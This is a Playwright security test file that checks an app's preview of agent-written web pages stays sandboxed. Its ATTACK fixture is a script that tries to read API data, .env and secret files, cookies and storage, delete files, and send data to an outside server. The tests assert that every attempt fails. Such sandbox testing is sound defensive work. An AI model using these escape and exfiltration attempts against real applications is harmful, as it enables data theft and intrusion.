"""Pages that agents write, in a real browser: they work, and stay in their cage (spec/README 21, SECURITY-BAR D5)."""

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from .parts import PATIENCE, Halo
from .test_extension_cage import Outside, outside, signed_in

__all__ = ["outside"]

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
FONT = Path(__file__).resolve().parents[2].joinpath("static/app/node_modules/@fontsource/jetbrains-mono/files")

PAGE = """<!doctype html>
<title>Made by an agent</title>
<link rel="stylesheet" href="look/page.css">
<h1>Report</h1><img src="pictures/dot.png" alt=""><p id="said"></p>
<script src="said.js"></script>
<script type="module" src="lib/main.js"></script>
"""
PARTS = {
    "look/page.css": "@font-face { font-family: Own; src: url(own.woff2) } h1 { color: rgb(1, 2, 3) }",
    "said.js": "document.getElementById('said').textContent = 'classic'",
    "lib/name.js": "export const name = 'module'",
    "lib/main.js": """
import { name } from "./name.js";
await document.fonts.load("16px Own");
const image = document.querySelector("img");
await image.decode();
const data = await (await fetch("data/figures.json")).json();
parent.postMessage({
  works: {
    classic: document.getElementById("said").textContent,
    module: name,
    colour: getComputedStyle(document.querySelector("h1")).color,
    image: image.naturalWidth,
    font: [...document.fonts].map((face) => face.status),
    data: data.total,
  },
  origin: self.origin,
}, "*");
""",
    "data/figures.json": json.dumps({"total": 42}),
}

# Each try gives what it got; "" or an exception means nothing.
ATTACK = """<!doctype html><title>Attack</title><script>
const status = (path, more) => fetch(path, { credentials: "include", ...more }).then((answer) => String(answer.status));
const loads = (tag, set) => new Promise((ok, no) => {
  const it = document.createElement(tag);
  Object.assign(it, set, { onload: () => ok("loaded"), onerror: no });
  document.head.append(it);
});
const TRIES = (outside) => ({
  "the settings": () => status("/api/settings/schema"),
  "the settings without cors": () => fetch("/api/settings/schema", { mode: "no-cors" }).then(() => "sent"),
  "a change": () => status("/api/files", { method: "DELETE" }),
  "the api as a script": () => loads("script", { src: "/api/workspaces" }),
  "the app's socket": () => new Promise((ok, no) => {
    const socket = new WebSocket(location.href.replace(/^http(.*?)\\/api.*/, "ws$1/ws"));
    Object.assign(socket, { onopen: () => ok("open"), onerror: no });
  }),
  "a file above its folder": () => status("../secret.txt"),
  "a hidden file of its folder": () => status(".env").then((said) => (said === "200" ? said : "")),
  "the cookie": () => document.cookie,
  "the storage": () => localStorage.length + 1,
  "the app's document": () => parent.document.title || "title",
  "the app in a frame": () => loads("iframe", { src: "/" }).then(() => window[0].document.title),
  "another server": () => fetch(outside, { mode: "no-cors" }).then(() => "sent"),
  "another server by image": () => loads("img", { src: outside + "a.png" }),
  "a form to another server": () => {
    const form = document.createElement("form");
    Object.assign(form, { action: outside, target: "_top" });
    document.documentElement.append(form);
    form.submit();
    return "";
  },
  "the top page": () => { top.location.href = outside; return "set"; },
  "the top page by link": () => {
    const link = document.createElement("a");
    Object.assign(link, { href: outside, target: "_top" });
    link.click();
    return "";
  },
  "a popup": () => (window.open(outside) ? "open" : ""),
  "a service worker": () => navigator.serviceWorker.register("worker.js").then(() => "registered"),
});
addEventListener("message", async ({ data }) => {
  if (data.leave) location.href = data.leave;
  if (!data.outside) return;
  const got = {};
  for (const [name, act] of Object.entries(TRIES(data.outside))) {
    const late = new Promise((_, no) => setTimeout(no, 3000, new Error("late")));
    try {
      got[name] = await Promise.race([act(), late]);
    } catch {
      got[name] = "";
    }
  }
  parent.postMessage({ got, origin: self.origin }, "*");
});
parent.postMessage("ready", "*");
</script>
"""
FRAME = """
async ({ folder, path, sandbox }) => {
  const made = await fetch("/api/files/preview", {
    method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ projectId: folder, path }),
  });
  const { url } = await made.json();
  const frame = document.createElement("iframe");
  if (sandbox) frame.setAttribute("sandbox", "allow-scripts");
  frame.name = "preview";
  window.heard = [];
  addEventListener("message", ({ source, data }) => source === frame.contentWindow && window.heard.push(data));
  frame.src = url;
  document.body.append(frame);
  return url;
}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    place = tmp_path / "work"
    site = place / "site"
    for name, text in {**PARTS, "index.html": PAGE, "attack.html": ATTACK, ".env": "secret", "worker.js": ""}.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(text)
    (site / "pictures").mkdir()
    (site / "pictures" / "dot.png").write_bytes(PNG)
    (site / "look" / "own.woff2").write_bytes(next(FONT.glob("*latin-400-normal.woff2")).read_bytes())
    (place / "secret.txt").write_text("secret")
    return place


@pytest.fixture
def page(browser: Browser, shared_halo: Halo, folder: Path) -> Iterator[Page]:
    """The app's page of somebody who is signed in and has the folder open."""
    context = browser.new_context()
    page = signed_in(context.new_page(), shared_halo)
    status = page.evaluate(
        "(path) => fetch('/api/fs/workspace/resolve', {method: 'POST', body: JSON.stringify({path}),"
        " headers: {'content-type': 'application/json'}}).then((it) => it.status)",
        str(folder),
    )
    assert status == 200
    yield page
    context.close()


def show(page: Page, folder: Path, path: str, *, sandbox: bool) -> str:
    return page.evaluate(FRAME, {"folder": str(folder), "path": path, "sandbox": sandbox})


def heard(page: Page, test: str) -> Any:
    return page.wait_for_function(f"() => window.heard.find((it) => {test})", timeout=60_000).json_value()


@pytest.mark.parametrize("sandbox", [True, False], ids=["in a caged frame", "in any frame"])
def test_a_page_runs_with_its_style_script_module_picture_font_and_data(page: Page, folder: Path, sandbox: bool):
    show(page, folder, "site/index.html", sandbox=sandbox)
    said = heard(page, "it.works")
    assert said["works"] == {
        "classic": "classic", "module": "module", "colour": "rgb(1, 2, 3)", "image": 1, "font": ["loaded"], "data": 42,
    }  # fmt: skip
    assert said["origin"] == "null"


@pytest.mark.parametrize("sandbox", [True, False], ids=["in a caged frame", "in any frame"])
def test_D5_a_page_reaches_neither_the_api_nor_the_app_nor_another_server(
    page: Page, folder: Path, outside: Outside, sandbox: bool
):
    """Without the frame's own attribute too: the policy that comes with the page is enough."""
    opened: list[object] = []
    page.context.on("page", lambda tab: opened.append(tab))
    here, asked = page.url, len(outside.asked)
    show(page, folder, "site/attack.html", sandbox=sandbox)
    heard(page, "it === 'ready'")
    page.evaluate("(outside) => window.frames['preview'].postMessage({ outside }, '*')", outside.address)
    found = heard(page, "it.got")
    got = {name: value for name, value in found["got"].items() if value not in ("", None)}
    assert got == {}
    assert len(found["got"]) == 18
    assert found["origin"] == "null"
    assert page.url == here
    assert opened == []
    assert outside.asked[asked:] == []
    assert (folder / "site" / "index.html").exists()


def test_D5_the_same_holds_for_a_page_in_a_tab_of_its_own(page: Page, folder: Path):
    address = show(page, folder, "site/attack.html", sandbox=True)
    tab = page.context.new_page()
    tab.goto(page.url.split("/?")[0].rstrip("/") + address)
    assert tab.evaluate("self.origin") == "null"
    assert tab.evaluate("fetch('/api/settings/schema', {credentials: 'include'}).then((it) => it.status, () => 0)") == 0


def test_D5_a_page_does_not_carry_what_it_read_to_another_server_by_going_there(
    page: Page, folder: Path, outside: Outside
):
    asked = len(outside.asked)
    show(page, folder, "site/attack.html", sandbox=True)
    heard(page, "it === 'ready'")
    with page.expect_event("console", lambda message: "frame-src" in message.text, timeout=PATIENCE):
        page.evaluate("(leave) => window.frames['preview'].postMessage({ leave }, '*')", outside.address + "?stolen")
    assert outside.asked[asked:] == []


@pytest.mark.parametrize("name", ["page.html", "page.svg", "page.xhtml", "page.xml"])
def test_D5_a_file_opened_in_place_runs_no_script(page: Page, folder: Path, name: str):
    script = "document.documentElement.setAttribute('data-ran', '1')"
    text = f"<html xmlns='http://www.w3.org/1999/xhtml'><body><script>{script}</script></body></html>"
    if name.endswith("svg"):
        text = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>"
    (folder / name).write_text(text)
    address = page.evaluate("location.origin") + f"/api/files/download?projectId={folder}&path={name}&inline=1"
    tab = page.context.new_page()
    with tab.expect_event("download" if name.endswith(("xhtml", "xml")) else "load", timeout=PATIENCE):
        tab.evaluate("(address) => { location.href = address }", address)
    if not name.endswith(("xhtml", "xml")):
        assert tab.url == address
        assert tab.evaluate("self.origin") == "null"
        assert tab.evaluate("document.documentElement.hasAttribute('data-ran')") is False
